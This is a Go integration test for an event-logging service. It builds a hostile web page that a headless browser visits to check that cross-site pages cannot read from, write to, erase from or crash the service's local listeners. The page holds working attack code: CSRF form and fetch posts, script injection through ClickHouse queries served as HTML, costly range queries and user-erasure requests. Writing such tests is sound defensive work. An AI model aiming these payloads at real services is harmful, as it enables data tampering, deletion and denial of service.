package inputs

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/almanac-events/almanac/integration/browser"
	"github.com/almanac-events/almanac/internal/embedded/embeddedtest"
)

// A browser can do here what the pages below try: what a test's own page may do it reports.
func TestPagesReport(t *testing.T) {
	site := browser.NewSite(t)
	open := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprint(w, r.URL.Query().Get("query"))
	}))
	t.Cleanup(open.Close)
	embeddedtest.Eventually(t, maxWait, func() error { // a browser that is busy may not have run all frames when the page was done
		reports := site.Visit(attack(site, open.URL))
		for _, want := range []string{"read by fetch", "ran at " + open.URL} {
			if !strings.Contains(strings.Join(reports, "\n"), want) {
				return fmt.Errorf("a server that lets everything in: %q is not among %q", want, reports)
			}
		}
		return nil
	})
}

// attack is a page that tries everything with a server of HTTP: to read it, to have its own script run at the server's
// origin, to write an event, to erase a person, and to end it.
func attack(site *browser.Site, base string) string {
	// The script that a statement has the server send back: it runs at the server's origin, if at all.
	script := fmt.Sprintf(`<script>fetch(%q + '/report?text=ran+at+' + encodeURIComponent(location.origin), {method:'POST', mode:'no-cors'});`+
		`fetch('/v1/topics/app/events', {method:'POST', headers:{'content-type':'application/json'}, body:'{"message":"by a page","evil":"yes"}'});`+
		`fetch('/v1/erasures', {method:'POST', headers:{'content-type':'application/json'}, body:'{"users":["u-9"]}'})</script>`, site.Origin())
	page := base + "/clickhouse?" + url.Values{"query": {"SELECT '" + strings.ReplaceAll(script, "'", `\'`) + "' FORMAT RawBLOB"}, "http_response_headers": {"{'Content-Type':'text/html'}"}}.Encode()
	plain := base + "/clickhouse?" + url.Values{"query": {"SELECT '" + strings.ReplaceAll(script, "'", `\'`) + "' FORMAT RawBLOB SETTINGS http_response_headers = '{\\'Content-Type\\':\\'text/html\\'}'"}}.Encode()
	echoed := base + "/?" + url.Values{"query": {script}}.Encode()
	event := `{\"message\":\"by a page\",\"evil\":\"yes\"}`
	return fmt.Sprintf(`<iframe name=frame></iframe><script>
const base = %q, pages = [%q, %q, %q]
const costly = ['/api/v1/query?query=max_over_time(up[10y:1ms])', '/t/cpu/api/v1/query?query=max_over_time(up[10y:1ms])', '/v1/verify', '/metrics', '/v1/topics/app/events', '/v1/sql', '/']
async function read(path, how) {
  try { const r = await fetch(base + path, {signal: AbortSignal.timeout(3000), ...how}); if (r.type !== 'opaque') await report('read by fetch ' + path + ' ' + r.status) } catch (e) {}
}
function form(action, type, body) {
  const f = document.createElement('form'); f.method = 'POST'; f.action = action; f.enctype = type; f.target = 'frame'
  const i = document.createElement('input'); i.type = 'hidden'; i.name = body; i.value = ''; f.append(i); document.body.append(f); f.submit()
}
(async () => {
  const text = "%s"
  for (const path of costly) {
    await read(path); await read(path, {mode: 'no-cors'})
    await read(path, {method: 'POST', headers: {'content-type': 'text/plain'}, body: 'SELECT 1'})
  }
  for (const path of ['/v1/topics/app/events', '/elastic/app/_bulk', '/loki/api/v1/push', '/app/_bulk', '/v1/logs', '/v1/erasures', '/'])
    for (const type of ['text/plain', 'application/json', 'application/x-www-form-urlencoded']) {
      await read(path, {method: 'POST', headers: {'content-type': type}, body: text})
      await read(path, {method: 'POST', mode: 'no-cors', body: text})
      try { navigator.sendBeacon(base + path, text) } catch (e) {}
    }
  for (const path of costly) {
    const i = new Image(); i.src = base + path
    const s = document.createElement('script'); s.src = base + path; document.head.append(s)
    const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = base + path; document.head.append(l)
  }
  for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
    form(base + '/v1/topics/app/events', type, text); await wait(200)
    form(base + '/v1/erasures', type, '{"users":["u-9"],"x":"'); await wait(200)
  }
  for (const page of [...pages, ...costly.map(path => base + path)]) {
    const f = document.createElement('iframe'); f.src = page; document.body.append(f)
    const a = document.createElement('a'); a.href = page; a.target = '_blank'; document.body.append(a); a.click()
    const opened = window.open('about:blank')
    if (opened) opened.location = page
  }
  try { const w = new WebSocket(base.replace('http', 'ws') + '/'); w.onopen = () => report('a web socket is open'); w.onmessage = m => report('a web socket said ' + m.data) } catch (e) {}
  await wait(4000)
  for (const f of document.querySelectorAll('iframe')) try { if (f.contentDocument && f.contentDocument.URL.startsWith(base)) await report('read by a frame') } catch (e) {}
  await done()
})()
</script>`, base, page, plain, echoed, event)
}

// A page that is visited reads nothing, writes nothing and ends nothing, at any listener, whether chromium counts it as one of
// this machine or of the internet.
func TestPagesDoNothing(t *testing.T) {
	site := browser.NewSite(t)
	n := up(t)
	w := sends(`{"message":"private","user_id":"u-9","good":"yes","n":"1"}`)
	if wrong := w.ask(t.Context(), http.DefaultClient, http.MethodPost, n.HTTP+"/v1/topics/app/events?ack=stored"); wrong != "" {
		t.Fatal(wrong)
	}
	nats := "http://" + strings.TrimPrefix(n.NATS, "nats://")
	ports := map[string]string{"gateway": n.HTTP, "elastic": n.Elastic, "otlp": n.OTLPHTTP, "gRPC": "http://" + n.OTLPGRPC, "NATS": nats, "syslog": "http://" + n.SyslogTCP}
	for _, site.Public = range []bool{false, true} {
		for name, base := range ports {
			if site.Public && name != "gateway" { // of which chromium lets less through
				continue
			}
			for _, report := range site.Visit(attack(site, base)) {
				t.Errorf("%s, a page of the internet: %t: %s", name, site.Public, report)
			}
			select {
			case <-n.ended:
				t.Fatalf("%s: the process has ended", name)
			default:
			}
		}
	}
	n.storedOnce("app", "attributes['good'] = 'yes' AND user_id = 'u-9'", 1) // no server was erased
	for _, topic := range []string{"app", "sys"} {
		out, err := n.command("sql", "SELECT count() FROM "+topic+" WHERE message != 'private'", "--format", "TSV").CombinedOutput()
		if err != nil || strings.TrimSpace(string(out)) != "0" {
			t.Errorf("%s: %v, %s events of a page", topic, err, out)
		}
	}
	if out, err := n.command("erase", "ls", "-o", "json").CombinedOutput(); err != nil || strings.Contains(string(out), "u-9") {
		t.Errorf("erasures: %v, %s", err, out)
	}
}
